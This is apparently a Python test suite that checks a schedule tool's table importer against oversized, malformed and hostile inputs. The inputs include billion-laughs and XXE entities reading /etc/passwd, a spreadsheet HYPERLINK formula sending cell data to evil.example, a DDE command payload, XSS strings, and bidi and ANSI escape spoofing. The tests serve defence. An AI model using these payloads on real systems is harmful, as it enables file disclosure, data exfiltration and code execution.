# SPDX-License-Identifier: LGPL-2.1-or-later
"""Tables made to hang, exhaust or mislead: each is done within two seconds of a quiet machine and 400 MB, with a clear message; what is
text stays text in every output."""
import json

from harness import PROGRAM, SANITIZED, case, expect, main, measure, run, soonest, write

SECONDS = 2.5  # of processor time, for a hundred thousand rows: two on a quiet machine, and more where a core is shared
SECONDS_OF_PROSE = 3.0  # for what else is made to take long; a quiet machine needs less than two
MEGABYTES = 400
HEADER = "| Topic | Presenter | Duration | Notes |\n| --- | --- | --- | --- |\n"
BASE = {"plenary": 1, "title": "Small", "timezone": "Europe/Berlin",
        "days": [{"date": "2030-05-06", "start": "09:00", "end": "17:00", "breaks": [{"start": "12:00", "end": "13:00"}]},
                 {"date": "2030-05-07", "start": "09:00", "end": "17:00"}]}


def markdown(row, n, header=HEADER):
    yield header
    for k in range(n):
        yield row.format(k) + "\n"


def values(row, n, header="Topic,Presenter,Duration,Notes\n"):
    return markdown(row, n, header)


def html(row, n, before="<table><tr><th>Topic</th><th>Presenter</th><th>Duration</th><th>Notes</th></tr>", after="</table>"):
    yield before
    for k in range(n):
        yield row.format(k)
    yield after


def entities(depth, declaration="<!DOCTYPE t [\n"):
    """A document whose last entity stands for 10 ** depth copies of the first."""
    yield '<?xml version="1.0"?>\n' + declaration + '<!ENTITY e0 "ha">\n'
    for k in range(depth):
        yield f'<!ENTITY e{k + 1} "' + f"&e{k};" * 10 + '">\n'
    yield f"]>\n<table><tr><th>Topic</th><th>Duration</th></tr><tr><td>Laughs &e{depth};</td><td>30m</td></tr></table>"


def wide(n):
    yield "| Topic | Duration |" + " x |" * n + "\n| --- | --- |" + " --- |" * n + "\n| A | 30m |" + " y |" * n + "\n"


def letters(k):
    return "Q" + "".join(chr(ord("a") + int(digit)) for digit in f"{k:05}")


TOO_MANY = "more than 100,000 rows"

# name: (file name, content, exit code, what the messages say, topics written)
CASES = {
    "rows_100000_markdown": ("t.md", lambda: markdown("| Topic number {0} | Ann Lee | 30m | about it |", 100000), 0, ["Topic number 99999"], 100000),
    "rows_30000_values": ("t.csv", lambda: values("Topic number {0},Person {0} Family{0},30m,about it", 30000), 0, ["Topic number 29999"], 30000),
    "rows_30000_html": ("t.html", lambda: html("<tr><td>Topic number {0}</td><td>Person</td><td>30m</td><td>about it</td></tr>", 30000), 0,
                         ["Topic number 29999"], 30000),
    "rows_30000_without_length": ("t.csv", lambda: values("Topic {0},,,", 30000), 0, ["no length is given"], 30000),
    "rows_100000_of_500_people": ("t.csv", lambda: (row for block in range(200) for row in values("Topic number {0},Person {0} Family{0},30m,about it", 500,
                                                                                                 "" if block else "Topic,Presenter,Duration,Notes\n")),
                                  0, ["Topic number 499"], 100000),
    "rows_100000_of_people": ("t.csv", lambda: values("Topic number {0},Person {0} Family{0},30m,about it", 100000), 0, ["Topic number 99999"], 100000),
    "rows_100000_of_handles": ("t.csv", lambda: values("Topic number {0},@person{0},30m,about it", 100000), 0, ["Topic number 99999"], 100000),
    "rows_100000_of_one_title": ("t.csv", lambda: values("Topic,Ann Lee,30m,", 100000), 0, ["Topic"], 100000),
    "rows_30000_of_wishes": ("t.csv", lambda: values("Topic number {0},Ann Lee,30m,prefer Tuesday after lunch", 30000), 0, ["prefer"], 30000),
    "rows_30000_of_orders": ("t.csv", lambda: values("Topic number {0},Ann Lee,30m,after the number talk", 30000), 0, ["Topic number 29999"], 30000),
    "rows_100001": ("t.csv", lambda: values("{0},,,", 100001), 2, [TOO_MANY], None),
    "rows_30000_of_ragged": ("t.csv", lambda: values("Topic {0},Ann Lee,30m,a,b,c,d", 30000), 0, ["more cells than the header"], 30000),
    "lines_of_constraints_10000": ("t.md", lambda: (piece for part in (markdown("| Topic {0} | Ann Lee | 30m | |", 10), ["\n# Schedule constraints\n\n"],
                                                                       (f"- Ada {letters(k)} is away on Tuesday\n" for k in range(10000))) for piece in part), 0,
                                   ["unavailable"], 10),
    "contradictions_10000": ("t.md", lambda: (piece for part in (markdown("| Own topic | Ann Lee | 30m | |", 1), ["\n# Schedule constraints\n\n"],
                                                                 (f"- Own topic: only available on {'Tuesday' if k % 2 else 'Monday'}\n" for k in range(10000)))
                                              for piece in part), 0, ["cannot both hold"], 1),
    "cell_of_10_MB_markdown": ("t.md", lambda: markdown("| A | Ann Lee | 30m | " + "word " * 2000000 + " |", 1), 0, ["A"], 1),
    "cell_of_10_MB_values": ("t.csv", lambda: values("A,Ann Lee,30m," + "x" * 10000000, 1), 0, ["A"], 1),
    "cell_of_10_MB_html": ("t.html", lambda: html("<tr><td>A</td><td>Ann Lee</td><td>30m</td><td>" + "word " * 2000000 + "</td></tr>", 1), 0, ["A"], 1),
    "title_of_10_MB": ("t.csv", lambda: values("x" * 10000000 + ",Ann Lee,30m,", 1), 0, ["xxx"], 1),
    "title_of_brackets": ("t.md", lambda: markdown("| " + "(" * 300000 + " | Ann Lee | 30m | |", 1), 0, ["((("], 1),
    "names_of_10_MB": ("t.csv", lambda: values('A,"' + "Ann Lee, " * 1000000 + '",30m,', 1), 0, ["A"], 1),
    "length_of_10_MB": ("t.csv", lambda: values("A,Ann Lee," + "3" * 10000000 + ",", 1), 0, ["PLN0604"], 1),
    "columns_20000": ("t.md", lambda: wide(20000), None, [], None),
    "pipes_10_MB": ("t.md", lambda: iter(["|" * 10000000]), None, [], None),
    "stars_1_MB": ("t.md", lambda: markdown("| " + "*a **b " * 150000 + " | Ann Lee | 30m | |", 1), 0, [], 1),
    "lists_in_lists": ("t.md", lambda: iter(["".join("  " * min(k, 500) + "- x\n" for k in range(3000))]), 2, ["nothing here looks like a table"], None),
    "links_100000": ("t.md", lambda: markdown("| A | Ann Lee | 30m | " + "[x](https://example.org/) " * 100000 + " |", 1), 0, [], 1),
    "references_50000": ("t.md", lambda: iter([HEADER + "| A | Ann Lee | 30m | " + "[x] " * 50000 + "|\n\n" + "".join(f"[x{k}]: /u\n" for k in range(50000))]), 0, [], 1),
    "rowspan_99999": ("t.html", lambda: html('<tr><td rowspan="99999">A</td><td rowspan="99999" colspan="99999">Ann Lee</td><td>30m</td><td></td></tr>'
                                             "<tr><td>30m</td></tr>", 1), 0, ["A"], None),
    "rowspans_99999_of_2000": ("t.html", lambda: html('<tr><td rowspan="99999" colspan="99999">A{0}</td></tr>', 2000), 2, ["a line across the whole table is left out"], None),
    "nested_tables_20000": ("t.html", lambda: html("<table><tr><td>", 20000), None, [], None),
    "nested_divs_200000": ("t.html", lambda: html("<div>", 200000), None, [], None),
    "laughs_html": ("t.html", lambda: entities(9), 0, ["Laughs"], 1),
    "laughs_xml": ("t.xml", lambda: entities(9), 0, ["Laughs"], 1),
    "entity_of_a_file": ("t.xml", lambda: iter(['<?xml version="1.0"?><!DOCTYPE t [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
                                                "<table><tr><th>Topic</th><th>Duration</th></tr><tr><td>Root is &e;</td><td>30m</td></tr></table>"]), 0, ["Root is"], 1),
    "quote_never_closed": ("t.csv", lambda: iter(["Topic,Presenter,Duration\n", 'A,"Ann Lee,30m\n' + "B,Ann Lee,30m\n" * 20000]), 2, ["inside a quoted cell"], None),
    "quotes_3_MB": ("t.csv", lambda: values("A,Ann Lee,30m," + '"' * 3000000, 1), None, [], None),
    "no_table": ("t.md", lambda: iter(["# Hello\n\nJust prose.\n"]), 2, ["nothing here looks like a table of requests", "--map"], None),
    "empty": ("t.md", lambda: iter([""]), 2, ["nothing here looks like a table of requests"], None),
    "header_alone": ("t.md", lambda: markdown("", 0), 2, ["nothing here looks like a table of requests"], None),
    "two_header_rows": ("t.csv", lambda: iter(["Topic,Presenter,Duration\nTopic,Presenter,Duration\nA,Ann Lee,30m\n"]), 0, ["the header stands again here"], 1),
    "title_row_above_header": ("t.csv", lambda: iter(["Requests for May,,\n,,\nTopic,Presenter,Duration\nA,Ann Lee,30m\n"]), 0, ["A"], 1),
    "ragged": ("t.md", lambda: iter([HEADER + "| A |\n| B | Ann Lee | 30m | n | more | still |\n| |  | 30m | n |\n"]), 0,
               ["more cells than the header", "a row without a topic is left out"], 2),
    "nul": ("t.md", lambda: iter([HEADER + "| A\0B | Ann Lee | 30m | |\n"]), 2, ["not UTF-8 text"], None),
    "utf16": ("t.csv", lambda: iter(["Topic,Duration\nA,30m\n".encode("utf-16")]), 2, ["not UTF-8 text"], None),
    "larger_than_64_MiB": ("t.csv", lambda: iter(["x" * 1000000] * 70), 2, ["larger than 64 MiB"], None),
}


def check(folder, name, content, code, says, n_topics):
    path, output = folder / name, folder / "request.json"
    with open(path, "wb") as file:
        for piece in content():
            file.write(piece if isinstance(piece, bytes) else piece.encode("utf-8"))
    base = write(folder, "base.json", BASE)
    (exit_code, told, seconds, megabytes), soon = soonest(SECONDS if n_topics == 100000 else SECONDS_OF_PROSE,
                                                          lambda: measure(folder, [PROGRAM, "import", path, "--base", base, "-o", output]))
    told += (folder / "err").read_text("utf-8")[-300000:]
    assert exit_code == code or (code is None and exit_code in (0, 2)), (exit_code, told[:500])
    assert soon, f"{seconds:.2f} s"
    assert SANITIZED or megabytes < MEGABYTES, f"{megabytes:.0f} MB"
    for text in says:
        assert text in told, (text, told[:500])
    assert output.exists() == (exit_code == 0)
    if n_topics is not None:
        assert len(json.loads(output.read_text("utf-8"))["topics"]) == n_topics
    return f"{seconds:.2f} s, {megabytes:.0f} MB"


def add(name, *row):
    def hostile(folder):
        print(f"# {name}: {check(folder, *row)}")

    hostile.__name__ = name
    case(hostile)


TEXTS = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1)',
    "formula_behind_tab": "\t=1+1",
    "at_formula": "@SUM(1+1)*cmd|' /C calc'!A0",
    "bidi": "Budget \u202egpj.exe\u2066 x",
    "ansi": "Red \x1b[31malert\x1b]0;owned\x07",
    "script": "<script>alert(1)</script> & <img src=x onerror=alert(2)>",
    "quotes": "\"'><svg/onload=alert(3)>",
    "markdown": "[click](javascript:alert(4)) ![i](http://evil.example/i.png) `|` **b**",
}


@case
def text_stays_text(folder):
    rows = "".join('"{}",Ann Lee,30m,"{}"\n'.format(*[text.replace('"', '""')] * 2) for text in TEXTS.values())
    path, base = write(folder, "t.csv", "Topic,Presenter,Duration,Notes\n" + rows), write(folder, "base.json", BASE)
    request, agenda = folder / "request.json", folder / "agenda.json"
    done = expect(run("import", path, "--base", base, "-o", request), 0)
    assert len(json.loads(request.read_text("utf-8"))["topics"]) == len(TEXTS)
    assert not set("\x1b\x07\u202e\u2066") & set(done.err), done
    expect(run("plan", request, "-o", agenda), 0)
    outputs = {name: expect(run("export", agenda, "--format", name, "--audience", "chairs"), 0).out
               for name in ("text", "markdown", "html", "csv", "ics", "json")}
    for name, text in outputs.items():
        assert not set("\x1b\x07") & set(text), name
    for name in ("text", "markdown", "html", "csv", "ics"):
        assert not set("\u202e\u2066") & set(outputs[name]), name
    for tag in ("<script>alert", "<img src=x", "<svg/onload", "javascript:alert(4)\""):
        assert tag not in outputs["html"] and tag not in outputs["markdown"].replace("\\<", ""), tag
    for line in outputs["csv"].splitlines():
        assert not any(cell.strip('"').startswith(("=", "@", "+", "\t")) for cell in line.split(",")), line


for key, row in CASES.items():
    if not (SANITIZED and key.startswith("rows_1")):  # minutes of work there, and nothing that thirty thousand rows do not show
        add(key, *row)
main()
